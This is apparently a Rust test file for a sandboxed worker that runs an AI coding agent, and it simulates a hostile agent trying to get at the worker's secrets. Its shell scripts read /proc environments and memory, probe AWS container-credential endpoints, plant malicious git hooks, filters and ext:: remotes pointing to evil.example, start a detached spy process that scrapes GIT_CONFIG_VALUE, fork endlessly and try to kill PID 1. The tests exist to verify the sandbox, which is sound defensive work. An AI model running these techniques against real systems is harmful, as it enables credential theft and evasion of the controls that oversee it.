//! An agent that wants the secrets. The worker and the agent run as one unprivileged user without
//! capabilities, the worker as PID 1 of its own PID namespace with its own `/proc`: as in the
//! container.

use std::{os::unix::fs::PermissionsExt, process::Command};

use ralph_protocol::names::worker_env as env;
use serde_json::json;

use crate::harness::{AGENT, Done, Fixture, KEY, Running, WORKER, progress, run_id, write};

/// What is added runs as PID 1 of a namespace, as nobody, without capabilities.
fn unprivileged() -> Command {
    let mut unshare = crate::harness::unshare();
    unshare.arg("setpriv");
    if rustix::process::getuid().is_root() {
        unshare.args(["--reuid=65534", "--regid=65534", "--clear-groups"]);
    }
    unshare.args(["--bounding-set=-all", "--inh-caps=-all", "--no-new-privs"]);
    unshare
}

/// Gives everything in the fixture to nobody.
fn give(fixture: &Fixture) {
    if rustix::process::getuid().is_root() {
        let mut chown = Command::new("chown");
        let status = chown.args(["-hR", "65534:65534"]).arg(fixture.dir.path()).status();
        assert!(status.unwrap().success());
    }
}

/// Runs the fixture's worker as PID 1 of a namespace, as nobody.
fn contained(fixture: &Fixture) -> Running {
    // Everything the user nobody must reach: the fixture, and the programs.
    let bin = fixture.path("bin");
    std::fs::create_dir(&bin).unwrap();
    for (program, name) in [(WORKER, "worker"), (AGENT, "agent")] {
        std::fs::copy(program, bin.join(name)).unwrap();
    }
    let command =
        fixture.env[env::AGENT_COMMAND].replace(AGENT, bin.join("agent").to_str().unwrap());
    let mut envs = fixture.env.clone();
    envs.insert(env::AGENT_COMMAND.to_owned(), command);
    give(fixture);
    let mut unshare = unprivileged();
    unshare.env_clear().envs(&envs);
    unshare.arg(bin.join("worker"));
    Running::new(unshare)
}

/// Runs it to its end.
fn ended(fixture: &Fixture) -> Done {
    contained(fixture).wait()
}

fn fixture() -> Fixture {
    let fixture = Fixture::new();
    let mode = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(fixture.dir.path(), mode).unwrap();
    fixture
}

/// Shows what the worker's process gives away; every line says what it tried.
const LOOK: &str = r#"
for name in environ mem maps auxv cmdline; do
  echo "== $name"; cat /proc/1/$name 2>&1 | tr '\0' '\n' | head -c 100000
done
echo "== fd"; ls -l /proc/1/fd 2>&1
for fd in 0 1 2 3 4 5 6 7 8 9; do cat /proc/1/fd/$fd 2>&1 < /dev/null | head -c 1000; done
echo "== others"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a -e RALPH_ANTHROPIC -e RALPH_GIT
echo "== root"; ls /proc/1/root 2>&1; ls /proc/1/cwd 2>&1
echo "== who"; id -u; grep -a -e CapEff -e NoNewPrivs /proc/self/status
echo "core $(ulimit -c)"; grep -a 'Max core' /proc/1/limits
echo "== metadata"; env | grep -a -e AWS_ -e ECS_
echo "== links"; cat PROGRESS.md PROMPT.md /proc/1/cwd/x 2>&1 | head -c 1000
ps -o pid= -p 1 >/dev/null 2>&1; tr '\0' ' ' < /proc/1/comm
true
"#;

#[test]
fn the_workers_process_gives_nothing_away() {
    let mut fixture = fixture();
    // What Fargate tells the container, and the way to the task's credentials.
    fixture.set("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials/hunter2-task");
    fixture.set("ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2/v4/hunter2-metadata");
    fixture.calls(json!([[{"run": ["sh", "-c", LOOK]}, progress(true)]]));
    // The harness fails on any line that holds a secret; but a secret would be redacted there, so
    // the agent's own view is what counts.
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let seen = done.of("agent.tool_result")[0]["text"].as_str().unwrap().to_owned();
    let nobody = !rustix::process::getuid().is_root() || seen.contains("== who\n65534\n");
    assert!(nobody, "not the unprivileged user: {seen}");
    assert!(seen.contains("CapEff:\t0000000000000000"), "{seen}");
    for name in ["environ", "mem", "maps", "auxv"] {
        let (_, after) = seen.split_once(&format!("== {name}\n")).unwrap();
        assert!(after.lines().next().unwrap().contains("Permission denied"), "{name}: {after}");
    }
    assert!(!seen.contains("[redacted]"), "the agent saw a secret: {seen}");
    assert!(!seen.contains("RALPH_ANTHROPIC"), "{seen}");
    assert!(seen.contains("core 0"), "core dumps are on: {seen}");
    let (_, after) = seen.split_once("== metadata\n").unwrap();
    assert!(after.starts_with("== links"), "the agent knows the way to the task's role: {after}");
}

#[test]
fn a_link_to_the_workers_environment_is_never_followed() {
    let mut fixture = fixture();
    let links = "ln -sf /proc/1/environ PROMPT.md; ln -sf /proc/self/environ PROGRESS.md; ln -s /proc/1/environ leak";
    fixture.set(env::MAX_ITERATIONS, "2");
    fixture.calls(json!([
        [{"run": ["sh", "-c", links]}],
        [{"text": "prompt was: {prompt}"}, write("a", "1")],
    ]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 10, "{done:#?}");
    let said = done.of("agent.text");
    assert_eq!(said[0]["text"], "prompt was: Do the next task.\n", "the last good prompt is used");
    // A link is committed as a link.
    assert_eq!(fixture.file("ralph/docs", "leak").as_deref(), Some("/proc/1/environ"));
}

#[test]
fn the_same_look_at_an_unguarded_process_finds_the_key() {
    // Otherwise the test above could not fail.
    let script = "sh -c \"$LOOK\"; true";
    let output = unprivileged()
        .args(["sh", "-c", script])
        .env("LOOK", LOOK)
        .env("RALPH_ANTHROPIC_KEYS", KEY)
        .output()
        .unwrap();
    let seen = String::from_utf8_lossy(&output.stdout);
    assert!(seen.contains(&format!("RALPH_ANTHROPIC_KEYS={KEY}")), "{seen}");
}

/// Plants everything a repository's configuration can run, each leaving a mark when it does.
const PLANT: &str = r#"
# A submodule at a file URL. From here on only `git config`, so that every mark is the worker's.
git init -q ../sub && git -C ../sub -c user.name=x -c user.email=x@x commit -q --allow-empty -m x
git -c protocol.file.allow=always submodule add -q file://$PWD/../sub sub
mark=$PWD/../marks; mkdir -p $mark
evil() { printf '#!/bin/sh\n(echo %s; env; cat /proc/$PPID/environ | tr "\\0" "\\n") >> %s/%s 2>/dev/null\ncat 2>/dev/null\nexit 0\n' $1 $mark $1 > ../evil-$1; chmod +x ../evil-$1; echo $PWD/../evil-$1; }
for hook in pre-commit commit-msg post-commit prepare-commit-msg pre-push post-checkout post-rewrite reference-transaction pre-rebase post-index-change; do
  cp $(evil hook-$hook) .git/hooks/$hook
done
git config core.fsmonitor $(evil fsmonitor)
git config core.sshCommand $(evil ssh)
git config core.editor $(evil editor)
git config core.pager $(evil pager)
git config credential.helper $(evil credential)
git config filter.evil.clean $(evil clean)
git config filter.evil.smudge $(evil smudge)
git config filter.evil.required true
git config gpg.program $(evil gpg)
git config commit.gpgSign true
git config diff.external $(evil diff)
git config http.proxy http://127.0.0.1:9
git config url.https://evil.example/.insteadOf file:///
git config remote.origin.pushurl https://evil.example/x
git config remote.origin.receivepack $(evil receivepack)
git config remote.origin.uploadpack $(evil uploadpack)
git config uploadpack.packObjectsHook $(evil packobjects)
git config core.hooksPath $PWD/.git/hooks
git config core.alternateRefsCommand $(evil alternates)
git config core.gitProxy $(evil gitproxy)
git config core.askPass $(evil askpass)
git config diff.evil.textconv $(evil textconv)
git config diff.evil.command $(evil command)
git config merge.evil.driver $(evil merge)
# A name with `=` cannot be switched off on a command line.
printf '[filter "a=b"]\n\tclean = %s\n\tprocess = %s\n' $(evil equals) $(evil process) > ../included
git config include.path $PWD/../included
git config includeIf.gitdir:$PWD/.git.path $PWD/../conditional
printf '[core]\n\tfsmonitor = %s\n[filter "late"]\n\tclean = %s\n' $(evil included) $(evil late) > ../conditional
git config extensions.worktreeConfig true
printf '[filter "tree"]\n\tclean = %s\n' $(evil worktree) > .git/config.worktree
# Objects of another repository, whose references are asked for by a command.
git init -q --bare ../other.git; echo $PWD/../other.git/objects > .git/objects/info/alternates
# Missing objects that a helper would fetch.
git config submodule.recurse true; git config fetch.recurseSubmodules true
git -C sub config core.sshCommand $(evil subssh); git -C sub config remote.origin.uploadpack $(evil subpack)
git config remote.promise.url "ext::$(evil ext) %S"; git config remote.promise.promisor true
git config protocol.ext.allow always
printf '*.a filter=evil diff=evil merge=evil\n*.b filter=a=b\n*.c filter=late\n*.d filter=tree\n* filter=evil\n' > .gitattributes
for x in a b c d; do echo $x > planted.$x; done
cp .git/config $HOME/.gitconfig; printf 'machine evil.example login x password y\n' > $HOME/.netrc
true
"#;

#[test]
fn what_the_agent_plants_in_git_never_runs_with_a_secret() {
    let mut fixture = fixture();
    let go = fixture.path("go").display().to_string();
    let wait = format!("echo ready; while ! test -e {go}; do sleep 0.05; done");
    fixture.calls(json!([
        [write("a", "1"), {"run": ["sh", "-c", PLANT]}, {"text": "planted"}],
        // Somebody else changes the same file, so that the worker must rebase and merge.
        [write("x.a", "1\n2\n3\n4\n5\n6\n7\n")],
        [{"run": ["sh", "-c", "sed -i s/7/seven/ x.a"]}, {"text": "ready"}, {"run": ["sh", "-c", wait]}],
        [write("b", "2")],
        [progress(true)],
    ]));
    let mut running = contained(&fixture);
    running.until_text("planted");
    running.until_text("ready");
    fixture.seed("ralph/docs", &[("x.a", "one\n2\n3\n4\n5\n6\n7\n")]);
    // Whoever pushed, the remote is nobody's.
    give(&fixture);
    std::fs::write(fixture.path("go"), "").unwrap();
    let done = running.wait();
    assert_eq!(done.exit(), 0, "{done:#?}");
    assert_eq!(fixture.file("ralph/docs", "b").as_deref(), Some("2"));
    assert_eq!(fixture.file("ralph/docs", "planted.b").as_deref(), Some("b\n"));
    let merged = fixture.file("ralph/docs", "x.a");
    assert_eq!(merged.as_deref(), Some("one\n2\n3\n4\n5\n6\nseven\n"));
    let checkout = fixture.path("work").join(run_id(1));
    let ran: Vec<_> = std::fs::read_dir(checkout.join("marks"))
        .unwrap()
        .flatten()
        .map(|mark| (mark.file_name(), std::fs::read_to_string(mark.path()).unwrap_or_default()))
        .collect();
    assert!(ran.is_empty(), "these ran, and saw: {ran:#?}");
}

#[test]
fn a_process_that_waits_for_the_push_is_gone_before_it() {
    let mut fixture = fixture();
    // In its own session, re-parented, looking for git's environment all the time.
    let spy = "setsid sh -c 'while true; do cat /proc/[0-9]*/environ 2>/dev/null | tr \"\\0\" \"\\n\" | grep -a GIT_CONFIG_VALUE >> ../spied; done' >/dev/null 2>&1 &";
    fixture.calls(json!([[write("a", "1"), {"run": ["sh", "-c", spy]}], [progress(true)]]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let spied = fixture.path("work").join(run_id(1)).join("spied");
    assert_eq!(std::fs::read_to_string(spied).unwrap_or_default(), "");
}

#[test]
fn a_process_that_never_stops_forking_is_gone_before_the_push() {
    let mut fixture = fixture();
    // Every instance lives for a moment only: whoever looks for it and then kills it comes late.
    let seen = "cat /proc/[0-9]*/comm 2>/dev/null | grep -c perl";
    let comet = format!(
        "setsid perl -e 'while (1) {{ exit if fork; }}' >/dev/null 2>&1 & until {seen}; do :; done"
    );
    fixture.calls(json!([
        [write("a", "1"), {"run": ["sh", "-c", comet]}],
        [{"run": ["sh", "-c", format!("for n in 1 2 3 4 5; do {seen}; done; true")]}, progress(true)],
    ]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    assert!(!done.text().contains("could not be ended"), "{}", done.text());
    let results = done.of("agent.tool_result");
    let count = results.iter().rev().nth(1).unwrap();
    assert_eq!(count["text"], "0\n0\n0\n0\n0\n", "{results:#?}");
}

#[test]
fn the_agent_cannot_end_the_worker_outright() {
    let mut fixture = fixture();
    fixture.calls(json!([[{"run": ["sh", "-c", "kill -KILL 1; kill -STOP 1; kill -SEGV 1; echo alive"]}, progress(true)]]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    assert!(done.text().contains("alive"));
}
